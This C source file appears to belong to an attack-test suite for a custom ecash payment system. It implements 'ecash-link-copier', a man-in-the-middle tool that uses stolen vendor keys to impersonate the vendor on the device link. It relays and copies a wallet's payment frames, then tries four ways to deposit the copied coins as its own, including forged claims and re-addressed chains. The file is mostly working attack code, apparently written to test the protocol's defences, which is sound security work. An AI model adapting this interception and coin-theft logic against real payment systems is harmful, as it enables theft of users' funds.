/* ecash-link-copier: a man in the middle of the device link who copies an
 * ecash payment as it passes (issue 12, case 1).
 *
 *   obol-attack ecash-link-copier --listen HOST:PORT --vendor HOST:PORT
 *       --vendor-dir DIR --wallet PATH
 *
 * The link is a Noise session in which the vendor proves its certified box
 * key, so a man in the middle reads nothing unless that key leaked: this one
 * has it (DIR/vendor.keys and DIR/vendor.cert, as a thief of the vendor's
 * files, or of a payee's stored coins, would). It answers the wallet's
 * handshake as the vendor, opens its own session to the real vendor and
 * relays frame by frame (the payment goes through), keeping a copy of the
 * wallet's PAY and SIGN frames. Then, as the holder of the registered wallet
 * PATH (passphrase from OBOL_PASSPHRASE), it tries to turn each copied coin
 * into its own money at the bank (waiting for it to answer) before the
 * vendor's deposit arrives:
 *   - it claims the bare coin (m, σ0) to itself with its own certified key,
 *     owner-signed with a key of its own, and deposits it;
 *   - the same with the honest claim's owner signature;
 *   - it deposits the honest chain as it is (the claim names the vendor);
 *   - it re-addresses the honest claim to itself, keeping the payer's
 *     signatures.
 * Prints "listening on ...", then "copied: N coins" and one
 * "attempt NAME: RESULT" line per try. */
#include <getopt.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "attack.h"
#include "core/clock.h"
#include "crypto/secret.h"
#include "net/devlink.h"
#include "net/http_client.h"
#include "schemes/ecash/messages.h"
#include "vendor/vendor.h"
#include "wallet/ecash_wallet.h"
#include "wallet/issuer_link.h"
#include "wire/cbor.h"
#include "wire/json.h"

struct capture {
	uint8_t *pay, *sign; /* bodies of the frames kept */
	size_t pay_len, sign_len;
};

/* Keeps a copy of the wallet's PAY or SIGN body. */
static void capture_add(struct capture *c, uint32_t type, const uint8_t *body, size_t body_len)
{
	if (type != ECASH_MSG_PAY && type != ECASH_MSG_SIGN)
		return;
	uint8_t **dst = type == ECASH_MSG_PAY ? &c->pay : &c->sign;
	size_t *dl = type == ECASH_MSG_PAY ? &c->pay_len : &c->sign_len;
	free(*dst);
	if ((*dst = malloc(body_len ? body_len : 1)) != NULL) {
		memcpy(*dst, body, body_len);
		*dl = body_len;
	}
}

/* Writes a frame read off the other session on: 4-byte length, then the
 * CBOR array [type, 2, body] around the body's bytes as they came. */
static obol_err forward(struct obol_devlink *to, uint32_t type, const uint8_t *body, size_t body_len)
{
	static uint8_t buf[OBOL_FRAME_HEADER_LEN + 8 + OBOL_FRAME_MAX];
	size_t h = OBOL_FRAME_HEADER_LEN;
	buf[h++] = 0x83; /* array of 3 */
	if (type < 24) {
		buf[h++] = (uint8_t)type;
	} else {
		buf[h++] = 0x18;
		buf[h++] = (uint8_t)type;
	}
	buf[h++] = 0x02; /* protocol version */
	if (type > 255 || body_len > OBOL_FRAME_MAX - (h - OBOL_FRAME_HEADER_LEN))
		return OBOL_E_WIRE_OVERSIZED;
	memcpy(buf + h, body, body_len);
	size_t l = h - OBOL_FRAME_HEADER_LEN + body_len;
	buf[0] = (uint8_t)(l >> 24);
	buf[1] = (uint8_t)(l >> 16);
	buf[2] = (uint8_t)(l >> 8);
	buf[3] = (uint8_t)l;
	return obol_devlink_write_frame(to, buf, OBOL_FRAME_HEADER_LEN + l);
}

/* Relays frames, the wallet speaking first and each side in turn, until
 * either side closes; an ERROR from one side is told to the other. */
static void relay(struct obol_devlink *wallet, struct obol_devlink *vendor, struct capture *c)
{
	for (int turn = 0;; turn ^= 1) {
		struct obol_devlink *from = turn == 0 ? wallet : vendor, *to = turn == 0 ? vendor : wallet;
		uint32_t type;
		const uint8_t *body;
		size_t body_len;
		obol_err e = obol_devlink_read(from, &type, &body, &body_len);
		if (e == OBOL_OK) {
			if (turn == 0)
				capture_add(c, type, body, body_len);
			e = forward(to, type, body, body_len);
		} else if (e != OBOL_E_DEVLINK_CLOSED && e != OBOL_E_NETWORK && e != OBOL_E_WIRE_TRUNCATED) {
			e = obol_devlink_write_error(to, e);
		}
		if (e != OBOL_OK)
			return;
	}
}

/* Deposits coins[0..n) in the copier's name; prints what the bank said. */
static void try_deposit(struct ecash_wallet *ew, const char *what, struct ecash_held_coin *coins, size_t n)
{
	struct obol_http_client *c = NULL;
	struct ecash_deposit_req m = { 0 };
	struct ecash_deposit_req_spec sp;
	json_t *req = NULL, *rep = NULL;
	obol_random(m.nonce, sizeof(m.nonce));
	m.cert = ew->cust.cert;
	m.coins = coins;
	m.ncoins = n;
	obol_err e = ecash_customer_coins_answer(&ew->cust, ECASH_ENTRY_DEPOSIT, m.nonce, coins, n, NULL, m.sig, &m.sig_len);
	if (e == OBOL_OK && (e = ecash_deposit_req_spec(&sp, &m, false)) == OBOL_OK)
		e = ecash_deposit_req_done(&sp, obol_json_encode(&sp.s, &req));
	if (e == OBOL_OK)
		e = obol_wallet_client(ew->w, true, &c);
	/* Until the bank answers (it may be down while the payment passes). */
	for (int i = 0; e == OBOL_OK || (e == OBOL_E_NETWORK && i < 300); i++) {
		if ((e = obol_http_post_json(c, "/ecash/deposit", req, OBOL_HTTP_AUTH, &rep)) != OBOL_E_NETWORK)
			break;
		usleep(200000);
	}
	if (e != OBOL_OK) {
		printf("attempt %s: %s\n", what, obol_strerror(e));
	} else {
		const json_t *r0 = json_array_get(json_object_get(rep, "results"), 0);
		printf("attempt %s: %s credited %s\n", what, json_string_value(json_object_get(r0, "name")),
		       json_string_value(json_object_get(rep, "credited")));
	}
	json_decref(req);
	json_decref(rep);
	obol_http_client_free(c);
}

static int run(int argc, char **argv)
{
	static const struct option opts[] = {
		{ "listen", required_argument, NULL, 'l' },
		{ "vendor", required_argument, NULL, 'v' },
		{ "wallet", required_argument, NULL, 'w' },
		{ "vendor-dir", required_argument, NULL, 'd' },
		{ 0, 0, 0, 0 },
	};
	const char *listen_at = NULL, *vendor = NULL, *wallet = NULL, *vdir = NULL;
	struct obol_sign_keypair vsign;
	struct obol_box_keypair vbox;
	struct obol_vendor_cert vcert;
	uint8_t vcred[OBOL_DL_CRED_MAX], pin[32];
	size_t vcred_len = 0;
	struct capture cap = { 0 };
	struct ecash_payment p = { 0 };
	struct ecash_payment_spec psp;
	struct ecash_signatures sg = { 0 };
	struct ecash_signatures_spec ssp;
	struct obol_wallet *w = NULL;
	struct ecash_wallet ew = { 0 };
	struct obol_devlink *in = NULL, *out = NULL;
	int fd = -1, ch, rc = 1;
	uint16_t port = 0;
	while ((ch = getopt_long(argc, argv, "", opts, NULL)) != -1) {
		if (ch == 'l')
			listen_at = optarg;
		else if (ch == 'v')
			vendor = optarg;
		else if (ch == 'w')
			wallet = optarg;
		else if (ch == 'd')
			vdir = optarg;
		else
			return 2;
	}
	if (listen_at == NULL || vendor == NULL || wallet == NULL || vdir == NULL)
		return 2;
	if (obol_vendor_keys_load(vdir, &vsign, &vbox) != OBOL_OK || obol_vendor_cert_load(vdir, &vcert) != OBOL_OK ||
	    obol_vendor_cert_encode(&vcert, vcred, sizeof vcred, &vcred_len) != OBOL_OK) {
		fprintf(stderr, "ecash-link-copier: no vendor keys and certificate in %s\n", vdir);
		return 1;
	}
	struct obol_devlink_identity as_vendor = { .key = &vbox, .kind = OBOL_DL_CRED_VENDOR, .cred = vcred,
						   .cred_len = vcred_len };
	struct obol_wallet_keysrc ks = { 0 };
	if (obol_wallet_open(wallet, &ks, &w) != OBOL_OK || ecash_wallet_load(w, &ew) != OBOL_OK ||
	    obol_wallet_issuer(w, NULL, pin, NULL, NULL) != OBOL_OK)
		goto out;
	if (obol_devlink_listen(listen_at, &fd, &port) != OBOL_OK)
		goto out;
	printf("listening on 127.0.0.1:%u\n", port);
	fflush(stdout);
	if (obol_devlink_accept(fd, -1, 0, &in) != OBOL_OK || obol_devlink_respond(in, &as_vendor) != OBOL_OK ||
	    obol_devlink_connect_vendor(vendor, 0, pin, &out) != OBOL_OK)
		goto out;
	relay(in, out, &cap);
	obol_devlink_close(in);
	obol_devlink_close(out);
	in = out = NULL;
	/* The copy: PAY, with the signatures SIGN carried. */
	if (cap.pay == NULL || ecash_payment_spec(&psp, &p, true) != OBOL_OK ||
	    ecash_payment_done(&psp, obol_cbor_decode(cap.pay, cap.pay_len, &psp.s)) != OBOL_OK) {
		printf("copied: 0 coins\n");
		goto out;
	}
	ecash_signatures_spec(&ssp, &sg, true);
	if (cap.sign != NULL && ecash_signatures_done(&ssp, obol_cbor_decode(cap.sign, cap.sign_len, &ssp.s)) == OBOL_OK &&
	    ecash_payment_attach(&p, &sg) != OBOL_OK)
		ecash_signatures_clear(&sg);
	printf("copied: %zu coins\n", p.ncoins);
	for (size_t i = 0; i < p.ncoins; i++) {
		/* 1: the bare coin, claimed to ourselves, signed by an owner key of ours. */
		struct ecash_held_coin bare = { .coin = p.coins[i].coin };
		uint8_t pk[ECASH_OWNER_LEN], sk[ECASH_OWNER_SK_LEN];
		ecash_owner_keypair(pk, sk);
		struct ecash_claim_req req = { .payee = ew.cust.id, .ts = obol_now(), .sk = ew.sk, .cert = &ew.cust.cert,
					       .owner_sk = bare.coin.has_owner ? sk : NULL };
		if (ecash_claim_make(&bare, &req) == OBOL_OK)
			try_deposit(&ew, "own-first-claim", &bare, 1);
		/* The owner signature of the honest claim on our claim. */
		if (bare.nchain == 1 && p.coins[i].chain[0].has_owner_sig) {
			memcpy(bare.chain[0].owner_sig, p.coins[i].chain[0].owner_sig, ECASH_OWNER_SIG_LEN);
			bare.chain[0].has_owner_sig = true;
			try_deposit(&ew, "borrowed-owner-signature", &bare, 1);
		}
		OBOL_WIPE(sk);
		ecash_held_clear(&bare);
		/* 2: the honest chain as it is. */
		try_deposit(&ew, "honest-chain", &p.coins[i], 1);
		/* 3: the honest claim re-addressed to us. */
		struct ecash_held_coin moved;
		if (ecash_held_copy(&moved, &p.coins[i]) == OBOL_OK && moved.nchain > 0) {
			memcpy(moved.chain[moved.nchain - 1].payee, ew.cust.id, ECASH_ID_LEN);
			try_deposit(&ew, "re-addressed", &moved, 1);
		}
		ecash_held_clear(&moved);
	}
	rc = 0;
out:
	if (fd >= 0)
		close(fd);
	obol_devlink_close(in);
	obol_devlink_close(out);
	ecash_payment_clear(&p);
	OBOL_WIPE(vsign);
	OBOL_WIPE(vbox);
	free(cap.pay);
	free(cap.sign);
	ecash_wallet_free(&ew);
	obol_wallet_close(w);
	return rc;
}

OBOL_ATTACK(ecash_copier_attack, "ecash-link-copier",
	    "--listen HOST:PORT --vendor HOST:PORT --vendor-dir DIR --wallet PATH",
	    "with the vendor's link key, copies an ecash payment off the device link and deposits the coins as its own",
	    run)
